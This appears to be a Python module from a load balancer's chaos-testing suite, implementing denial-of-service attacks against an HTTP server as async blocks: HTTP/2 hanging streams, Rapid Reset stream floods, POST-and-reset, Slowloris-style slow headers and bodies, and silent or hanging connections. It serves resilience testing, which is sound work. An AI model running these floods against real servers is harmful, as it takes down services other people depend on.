"""Attacks on any HTTP server, as blocks: the attack is on inside the block and over after it.

They need only an address, so that other balancers can be attacked in the same way. The server must have a path
`/hang` behind it that never answers.
"""

from __future__ import annotations

import asyncio
import random
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress

from chaos.http import request
from chaos.http2 import Http2Client
from evenly.live.addresses import Address

_AT_ONCE = 100  # connections that are being opened
_BODY_PIECE = 2**16
_RESETS_AT_ONCE = 100
_POSTS_AT_ONCE = 20
STREAMS = 1000  # per connection, if the server allows as many


@asynccontextmanager
async def hanging_streams(server: Address, connections: int) -> AsyncIterator[list[Http2Client]]:
    """Open HTTP/2 connections with as many hanging streams as the server allows, up to 1,000 each."""
    clients = [Http2Client() for _ in range(connections)]
    try:
        for client in clients:
            if await client.connect(server):
                client.open(min(STREAMS, client.max_streams))
        yield clients
    finally:
        for client in clients:
            client.abort()


async def rapid_resets(server: Address, clients: int, streams: int) -> int:
    """Let clients open streams and reset each at once. Return how many connections that took.

    A server may close a connection with many resets. The client then goes on over a new one.
    """
    return sum(await asyncio.gather(*(_reset(server, streams) for _ in range(clients))))


async def _reset(server: Address, streams: int) -> int:
    connections, client = 0, None
    try:
        for _ in range(0, streams, _RESETS_AT_ONCE):
            if client is None or client.closed:
                client = Http2Client()
                connections += 1
                if not await client.connect(server):
                    continue
            client.open_and_reset(_RESETS_AT_ONCE)
            await client.ping()
    finally:
        if client is not None:
            client.abort()
    return connections


async def reset_posts(server: Address, clients: int, seconds: float, chance: random.Random) -> int:
    """Let clients send POSTs, and reset them when the pool may have them. Return how many POSTs that were."""
    waits = [random.Random(chance.random()) for _ in range(clients)]
    return sum(await asyncio.gather(*(_post_and_reset(server, seconds, each) for each in waits)))


async def _post_and_reset(server: Address, seconds: float, chance: random.Random) -> int:
    client, posts, end = Http2Client(), 0, time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            if client.closed or not posts:
                client.abort()
                client = Http2Client()
                if not await client.connect(server):
                    await asyncio.sleep(0.1)
                    continue
            streams = client.open(_POSTS_AT_ONCE, method="POST")
            posts += len(streams)
            await asyncio.sleep(chance.uniform(0.005, 0.03))
            client.reset(streams)
    finally:
        client.abort()
    return posts


@asynccontextmanager
async def silent_connections(server: Address, count: int) -> AsyncIterator[list[asyncio.StreamWriter]]:
    """Open connections that never send a byte."""
    async with _connections(server, count, b"") as writers:
        yield writers


@asynccontextmanager
async def slow_connections(
    server: Address, count: int, start: bytes, chance: random.Random
) -> AsyncIterator[list[asyncio.StreamWriter]]:
    """Open connections that send `start` and then a byte now and then, about once a second each."""
    async with _connections(server, count, start) as writers:
        dripping = asyncio.create_task(_drip(writers, chance))
        try:
            yield writers
        finally:
            dripping.cancel()
            await asyncio.wait([dripping])


def slow_headers() -> bytes:
    """Return the start of a request whose headers have no end."""
    return b"GET /hang HTTP/1.1\r\nhost: pools\r\nx-slow: "


def slow_body(size: int) -> bytes:
    """Return a request without its body of `size` bytes."""
    return request("POST", "/hang", content_length=str(size)).replace(b"content-length: 0\r\n", b"")


@asynccontextmanager
async def waiting_posts(server: Address, count: int, size: int) -> AsyncIterator[list[asyncio.StreamWriter]]:
    """Send whole POST requests that get no answer."""
    async with _connections(server, count, request("POST", "/hang", body=bytes(size))) as writers:
        yield writers


@asynccontextmanager
async def _connections(server: Address, count: int, first: bytes) -> AsyncIterator[list[asyncio.StreamWriter]]:
    """Open connections and send the first bytes on each. Those that the server refuses are left out."""
    turns = asyncio.Semaphore(_AT_ONCE)
    writers: list[asyncio.StreamWriter] = []
    tasks = [asyncio.create_task(_open(server, first, turns, writers)) for _ in range(count)]
    try:
        await asyncio.gather(*tasks)
        yield writers
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        for writer in writers:
            writer.transport.abort()


async def _open(
    server: Address, first: bytes, turns: asyncio.Semaphore, writers: list[asyncio.StreamWriter]
) -> None:
    async with turns:
        with suppress(OSError):
            async with asyncio.timeout(10):
                _, writer = await asyncio.open_connection(*server)
            writers.append(writer)
            for at in range(0, len(first), _BODY_PIECE):  # in pieces: this process has one core for all clients
                writer.write(first[at : at + _BODY_PIECE])
                async with asyncio.timeout(10):
                    await writer.drain()


async def _drip(writers: list[asyncio.StreamWriter], chance: random.Random) -> None:
    while True:
        await asyncio.sleep(0.1)
        for writer in writers:
            if chance.random() < 0.1 and not writer.is_closing():
                writer.write(b"x")
